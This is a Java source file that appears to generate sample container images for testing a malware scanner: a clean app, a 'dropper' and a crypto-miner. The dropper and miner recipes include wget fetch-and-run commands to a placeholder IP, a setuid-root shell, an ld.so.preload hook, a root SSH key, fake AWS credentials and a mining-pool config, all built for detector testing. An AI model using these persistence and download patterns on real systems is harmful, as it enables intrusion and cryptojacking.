package dev.contraband.sample;

import dev.contraband.layer.Compression;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

/**
 * The images {@code contraband demo} builds and scans: a clean application and a dropper that shares its base
 * layer and plants what the suspicious-artifacts family finds, one of them deleted by a later layer.
 */
public final class SampleImages {
    /** A sample written to disk: its name and the target that scans it. */
    public record Sample(String name, String target, String description) {
    }

    private static final String BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    private static final String BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    private static final java.security.SecureRandom RANDOM = new java.security.SecureRandom();

    private SampleImages() {
    }

    /** Credentials in the samples are made fresh each time, so none is ever committed or real. */
    private static String random(String alphabet, int n) {
        StringBuilder s = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            s.append(alphabet.charAt(RANDOM.nextInt(alphabet.length())));
        }
        return s.toString();
    }

    static LayerBuilder base() {
        return LayerBuilder.create()
                .dir("/bin").dir("/etc").dir("/tmp").dir("/usr/share/doc/app")
                .file("/etc/os-release", "PRETTY_NAME=\"Demo Linux 1.0\"\nID=demo\n")
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n")
                .file("/bin/sh", SampleElf.program(), 0755)
                .file("/usr/bin/passwd", SampleElf.program(), 04755)
                .file("/usr/share/doc/app/README", "Temporary files go to /tmp; the app never runs anything from there.\n");
    }

    public static ImageBuilder.Built clean() {
        return ImageBuilder.create()
                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
                .layer(LayerBuilder.create().dir("/app").file("/app/server", SampleElf.program(), 0755)
                        .file("/app/config.yaml", "listen: 0.0.0.0:8080\n"), Compression.GZIP, "COPY app /app # buildkit")
                .workingDir("/app")
                .entrypoint("/app/server")
                .cmd("--config", "/app/config.yaml")
                .build();
    }

    public static ImageBuilder.Built dropper() {
        return ImageBuilder.create()
                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
                .layer(LayerBuilder.create()
                                .dir("/tmp/.cache")
                                .file("/tmp/.cache/kthreadd", SampleElf.program(), 0755)
                                .dir("/opt/.hidden")
                                .file("/opt/.hidden/loader", SampleElf.program(), 0755)
                                .file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
                                .file("/usr/local/bin/rootsh", SampleElf.program(), 04755, 0, 0)
                                .dir("/root/.ssh")
                                .file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
                                        + random(BASE64, 43) + " operator@c2\n")
                                .dir("/root/.aws")
                                .file("/root/.aws/credentials", "[default]\naws_access_key_id = AKIA" + random(BASE32, 16)
                                        + "\naws_secret_access_key = " + random(BASE64, 40) + "\n"),
                        Compression.ZSTD, "/bin/sh -c wget -q http://198.51.100.7/k -O /tmp/.cache/kthreadd && chmod +x /tmp/.cache/kthreadd")
                .layer(LayerBuilder.create().whiteout("/opt/.hidden/loader"), Compression.GZIP,
                        "/bin/sh -c rm /opt/.hidden/loader")
                .entrypoint("/bin/sh", "-c", "/tmp/.cache/kthreadd --background; exec sleep infinity")
                .build();
    }

    /**
     * An "ubuntu" that mines: an inert ELF carrying XMRig's strings under a kernel-thread name in a hidden folder, its
     * config with a pool and a fresh (checksum-valid) Monero wallet, and a CMD that starts it.
     */
    public static ImageBuilder.Built miner() {
        byte[] keys = new byte[64];
        new java.security.SecureRandom().nextBytes(keys);
        String wallet = dev.contraband.detect.miner.Wallets.moneroAddress(18, keys);
        java.io.ByteArrayOutputStream elf = new java.io.ByteArrayOutputStream();
        elf.writeBytes(SampleElf.program());
        for (String s : List.of("XMRig 6.21.0", "donate-level", "cpu-max-threads-hint", "rx/wow", "argon2/chukwa",
                "keepalived", "nicehash", "huge-pages", "randomx")) {
            elf.write(0);
            elf.writeBytes(s.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        }
        return ImageBuilder.create()
                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
                .layer(LayerBuilder.create()
                                .dir("/opt/.cache")
                                .file("/opt/.cache/kthreadd", elf.toByteArray(), 0755)
                                .file("/opt/.cache/config.json", "{\"donate-level\": 0, \"cpu\": {\"enabled\": true},\n"
                                        + " \"pools\": [{\"url\": \"pool.supportxmr.com:3333\", \"user\": \"" + wallet + "\"}]}\n"),
                        Compression.GZIP, "/bin/sh -c wget -q http://198.51.100.7/x -O /opt/.cache/kthreadd")
                .cmd("/opt/.cache/kthreadd", "--config", "/opt/.cache/config.json")
                .build();
    }

    /** Writes the samples under {@code dir} and returns them in the order the demo scans them. */
    public static List<Sample> write(Path dir) throws IOException {
        Path cleanArchive = dir.resolve("clean-app.tar");
        ImageWriter.dockerArchive(cleanArchive, "demo/clean-app:1.0", clean(), true);
        Path dropperLayout = dir.resolve("dropper-oci");
        ImageWriter.ociLayout(dropperLayout, "latest", dropper());
        Path minerLayout = dir.resolve("miner-oci");
        ImageWriter.ociLayout(minerLayout, "latest", miner());
        return List.of(
                new Sample("demo/clean-app:1.0", "docker-archive:" + cleanArchive,
                        "a clean application image, as `docker save` writes it"),
                new Sample("demo/dropper:latest", "oci:" + dropperLayout + ":latest",
                        "an image that plants a program in /tmp, preloads a library, adds a setuid-root shell, "
                                + "an SSH key for root and AWS credentials, and deletes one of its droppings in a later layer"),
                new Sample("demo/ubuntu-miner:latest", "oci:" + minerLayout + ":latest",
                        "an image that ships a renamed XMRig build in a hidden folder with its pool and wallet config"));
    }
}
